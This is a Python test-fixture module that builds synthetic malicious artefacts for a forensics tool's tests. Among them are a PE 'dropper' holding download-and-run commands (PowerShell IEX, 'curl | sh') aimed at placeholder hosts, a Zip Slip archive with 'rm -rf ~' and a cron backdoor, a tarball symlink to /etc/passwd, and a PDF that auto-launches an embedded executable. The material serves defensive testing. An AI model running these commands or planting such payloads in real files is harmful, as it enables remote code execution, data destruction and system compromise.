"""Artefacts for the forensics tool tests, built byte by byte in memory (nothing touches the disk)."""

from __future__ import annotations

import base64
import io
import random
import struct
import tarfile
import zipfile
import zlib
from typing import Any

from orchestrion.tools.base import InputFile, ToolContext

# Built by concatenation so that this file does not look like a leak to other scanners.
GITHUB = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
BITCOIN = "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa"
PS_SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/stage2.ps1')"
PS_BLOB = base64.b64encode(PS_SCRIPT.encode("utf-16-le")).decode()
CURL = "curl -fsSL http://198.51.100.7/x.sh | sh"


def ctx(*files: tuple[str, bytes | str]) -> ToolContext:
    """A context holding `files`: bytes arrive as binary uploads, str as text ones."""
    inputs = [
        InputFile(name=name, content=body.decode("latin-1"), raw=body)
        if isinstance(body, bytes)
        else InputFile(name=name, content=body)
        for name, body in files
    ]
    return ToolContext(task_id="t", step_id="s", files=inputs)


def elf() -> bytes:
    """A 64-bit little-endian x86-64 ELF executable header, padded."""
    header = b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + struct.pack("<HHI", 2, 0x3E, 1)
    return header.ljust(64, b"\x00") + b"\x90" * 64


def pe(payload: bytes = b"", *, dll: bool = False) -> bytes:
    """A minimal PE32 (x86) image: DOS header pointing at a PE header, then `payload`."""
    dos = bytearray(b"MZ" + b"\x00" * 0x3E)
    struct.pack_into("<I", dos, 0x3C, 0x80)
    dos += b"This program cannot be run in DOS mode.\r\n".ljust(0x80 - len(dos), b"\x00")
    characteristics = 0x0102 | (0x2000 if dll else 0)
    coff = b"PE\x00\x00" + struct.pack("<HHIIIHH", 0x14C, 1, 0, 0, 0, 0xE0, characteristics)
    optional = struct.pack("<H", 0x10B).ljust(0xE0, b"\x00")
    return bytes(dos) + coff + optional + payload


def random_bytes(count: int, seed: int = 7) -> bytes:
    return random.Random(seed).randbytes(count)


def dropper() -> bytes:
    """A PE whose strings hold the commands and indicators `strings_extract` must find."""
    ascii_strings = [
        f"powershell.exe -nop -w hidden -enc {PS_BLOB}",
        CURL,
        "cmd.exe /c whoami > C:\\Users\\Public\\out.txt",
        "/bin/sh -c id",
        "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\updater",
        "contact admin@evil-corp.com for the key",
        f"send 0.5 BTC to {BITCOIN}",
        f"token={GITHUB}",
        "http://schemas.microsoft.com/SMI/2005/WindowsSettings",
        "fallback 2001:db8::dead:beef and 10.0.0.8 via c2.evil-corp.com",
        "blob " + base64.b64encode(b"this is a hidden configuration string for the implant").decode(),
    ]
    body = b"\x00\x00".join(s.encode() for s in ascii_strings)
    wide = "http://evil.example.com/beacon".encode("utf-16-le")
    return pe(b"\x00" * 16 + body + b"\x00\x00\x00\x00" + wide + b"\x00\x00")


def zip_bytes(entries: list[tuple[str, bytes]], *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, body in entries:
            archive.writestr(zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0)), body, compression)
    return buffer.getvalue()


def mark_encrypted(data: bytes, name: str) -> bytes:
    """Set the 'encrypted' flag of entry `name` in both its local and central headers."""
    patched = bytearray(data)
    encoded = name.encode()
    for signature, flag_at, name_at in ((b"PK\x03\x04", 6, 30), (b"PK\x01\x02", 8, 46)):
        position = patched.find(signature)
        while position >= 0:
            length = struct.unpack_from("<H", patched, position + (26 if name_at == 30 else 28))[0]
            if patched[position + name_at : position + name_at + length] == encoded:
                flags = struct.unpack_from("<H", patched, position + flag_at)[0]
                struct.pack_into("<H", patched, position + flag_at, flags | 1)
            position = patched.find(signature, position + 4)
    return bytes(patched)


def evil_zip() -> bytes:
    """A Zip Slip entry, an absolute path, a 20 MiB run of zeros, an 'encrypted' entry, a nested zip."""
    inner = zip_bytes([("payload.exe", pe()), ("readme.txt", b"hello")])
    data = zip_bytes(
        [
            ("../evil.sh", b"#!/bin/sh\nrm -rf ~\n"),
            ("/etc/cron.d/backdoor", b"* * * * * root sh -c id\n"),
            ("zeros.bin", b"\x00" * (20 * 1024 * 1024)),
            ("secret/notes.txt", b"nothing to see"),
            ("inner.zip", inner),
            ("docs/report.txt", b"quarterly numbers"),
        ]
    )
    return mark_encrypted(data, "secret/notes.txt")


def tar_bytes(members: list[tuple[tarfile.TarInfo, bytes | None]], mode: str = "w:gz") -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=mode) as archive:  # type: ignore[call-overload]
        for info, body in members:
            if body is not None:
                info.size = len(body)
            archive.addfile(info, io.BytesIO(body) if body is not None else None)
    return buffer.getvalue()


def tar_info(
    name: str, *, mode: int = 0o644, kind: bytes = tarfile.REGTYPE, link: str = ""
) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.mode, info.type, info.linkname, info.mtime = mode, kind, link, 1_700_000_000
    return info


def script_tarball(mode: str = "w:gz") -> bytes:
    return tar_bytes(
        [
            (tar_info("pkg", mode=0o755, kind=tarfile.DIRTYPE), None),
            (tar_info("pkg/install.sh", mode=0o755), f"#!/bin/bash\n{CURL}\n".encode()),
            (tar_info("pkg/README"), b"read me\n"),
            (tar_info("pkg/link", kind=tarfile.SYMTYPE, link="../../../etc/passwd"), None),
            (tar_info("pkg/ok-link", kind=tarfile.SYMTYPE, link="README"), None),
        ],
        mode,
    )


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(*, texts: list[bytes] | None = None, exif: bytes | None = None, trailer: bytes = b"") -> bytes:
    """A 2x1 RGB PNG with tEXt/zTXt/iTXt chunks (by default), optional eXIf and appended bytes."""
    ihdr = struct.pack(">IIBBBBB", 2, 1, 8, 2, 0, 0, 0)
    chunks = [png_chunk(b"IHDR", ihdr)]
    for chunk in texts if texts is not None else default_png_texts():
        chunks.append(chunk)
    if exif is not None:
        chunks.append(png_chunk(b"eXIf", exif))
    chunks.append(png_chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00\x00\xff\x00")))
    chunks.append(png_chunk(b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks) + trailer


def default_png_texts() -> list[bytes]:
    return [
        png_chunk(b"tEXt", b"Author\x00Jane Analyst"),
        png_chunk(b"tEXt", b"Comment\x00deploy key " + GITHUB.encode()),
        png_chunk(b"zTXt", b"Software\x00\x00" + zlib.compress(b"GIMP 2.10")),
        png_chunk(b"iTXt", b"Description\x00\x00\x00en\x00\x00" + "caf\u00e9 photo".encode()),
        png_chunk(b"iTXt", b"Title\x00\x01\x00\x00\x00" + zlib.compress(b"compressed title")),
    ]


def tiff(
    ifd0: dict[int, tuple[int, Any]],
    exif: dict[int, tuple[int, Any]] | None = None,
    gps: dict[int, tuple[int, Any]] | None = None,
    *,
    order: str = "<",
) -> bytes:
    """A TIFF/EXIF structure: IFD0 with optional Exif and GPS sub-IFDs; values are (type, value)."""
    root = dict(ifd0)
    subs = [(tag, dict(d)) for tag, d in ((0x8769, exif), (0x8825, gps)) if d]
    for tag, _ in subs:
        root[tag] = (4, [0])  # A placeholder, so that the size of IFD0 counts the pointer.
    directories = [root] + [d for _, d in subs]
    sizes = [2 + 12 * len(d) + 4 for d in directories]
    offsets = [8 + sum(sizes[:i]) for i in range(len(directories))]
    for (tag, _), offset in zip(subs, offsets[1:], strict=True):
        root[tag] = (4, [offset])
    data_area = offsets[-1] + sizes[-1]
    blobs = bytearray()
    out = bytearray(b"II*\x00" if order == "<" else b"MM\x00*") + struct.pack(f"{order}I", 8)
    for directory in directories:
        out += struct.pack(f"{order}H", len(directory))
        for tag, (kind, value) in sorted(directory.items()):
            raw, count = _tiff_value(kind, value, order)
            if len(raw) <= 4:
                field = raw.ljust(4, b"\x00")
            else:
                field = struct.pack(f"{order}I", data_area + len(blobs))
                blobs += raw + (b"\x00" if len(raw) % 2 else b"")
            out += struct.pack(f"{order}HHI", tag, kind, count) + field
        out += struct.pack(f"{order}I", 0)
    return bytes(out + blobs)


def _tiff_value(kind: int, value: Any, order: str) -> tuple[bytes, int]:
    if kind == 2:
        raw = value.encode() + b"\x00"
        return raw, len(raw)
    if kind == 7:
        return value, len(value)
    if kind == 5:
        return b"".join(struct.pack(f"{order}II", n, d) for n, d in value), len(value)
    code = {1: "B", 3: "H", 4: "I"}[kind]
    return b"".join(struct.pack(f"{order}{code}", v) for v in value), len(value)


def gps_tiff(order: str = "<") -> bytes:
    """EXIF of a phone photo taken at the Eiffel Tower: 48°51'29.64"N 2°17'40.32"E, 35 m."""
    return tiff(
        {
            0x010F: (2, "Apple"),
            0x0110: (2, "iPhone 13"),
            0x0131: (2, "17.1"),
            0x0132: (2, "2024:05:01 10:00:00"),
        },
        {0x9003: (2, "2024:05:01 09:59:58"), 0xA431: (2, "SN-0042"), 0x9286: (7, b"ASCII\x00\x00\x00hello")},
        {
            0x0000: (1, [2, 3, 0, 0]),
            0x0001: (2, "N"),
            0x0002: (5, [(48, 1), (51, 1), (2964, 100)]),
            0x0003: (2, "E"),
            0x0004: (5, [(2, 1), (17, 1), (4032, 100)]),
            0x0005: (1, [0]),
            0x0006: (5, [(35, 1)]),
        },
        order=order,
    )


def jpeg(exif: bytes | None = None, *, trailer: bytes = b"", comment: bytes = b"shot by test") -> bytes:
    """A baseline JPEG skeleton: APP1 Exif, COM, SOF0 (640x480), SOS, some scan bytes, EOI."""

    def segment(marker: int, body: bytes) -> bytes:
        return bytes([0xFF, marker]) + struct.pack(">H", len(body) + 2) + body

    parts = [b"\xff\xd8"]
    if exif is not None:
        parts.append(segment(0xE1, b"Exif\x00\x00" + exif))
    parts.append(segment(0xFE, comment))
    parts.append(
        segment(0xC0, struct.pack(">BHHB", 8, 480, 640, 3) + b"\x01\x22\x00\x02\x11\x01\x03\x11\x01")
    )
    parts.append(segment(0xDA, b"\x03\x01\x00\x02\x11\x03\x11\x00\x3f\x00"))
    parts.append(b"\x12\x34\xff\x00\x56\xff\xd0\x78")  # Scan data with a stuffed 0xFF and a restart marker.
    parts.append(b"\xff\xd9")
    return b"".join(parts) + trailer


def pdf(
    objects: list[bytes], *, trailer: bytes = b"<< /Root 1 0 R /Info 7 0 R >>", header: bytes = b"%PDF-1.7"
) -> bytes:
    """A PDF from numbered object bodies (object n is objects[n-1]) with an xref and a trailer."""
    out = bytearray(header + b"\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n" + trailer + b"\nstartxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def stream(dictionary: bytes, body: bytes) -> bytes:
    return dictionary.replace(b">>", b" /Length %d >>" % len(body), 1) + b"\nstream\n" + body + b"\nendstream"


def malicious_pdf() -> bytes:
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /Names << /EmbeddedFiles 6 0 R >> >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
            b"<< /Type /Action /S /JavaScript /JS (app.alert\\('Invoice \\(overdue\\)'\\); "
            b'this.exportDataObject\\({cName: "a.exe", nLaunch: 2}\\);) >>',
            stream(b"<< /Type /XObject >>", b"/JS (not a real key: inside a stream) /Launch"),
            b"<< /Type /EmbeddedFile /Names [(a.exe) 8 0 R] >>",
            b"<< /Title (Invoice 2024) /Author (Mallory \\(finance\\)) "
            b"/Creator <FEFF004D005300200057006F00720064> /Producer (Microsoft\\256 Word) "
            b"/CreationDate (D:20240102030405+01'00') /ModDate (D:20240103Z) >>",
        ]
    )
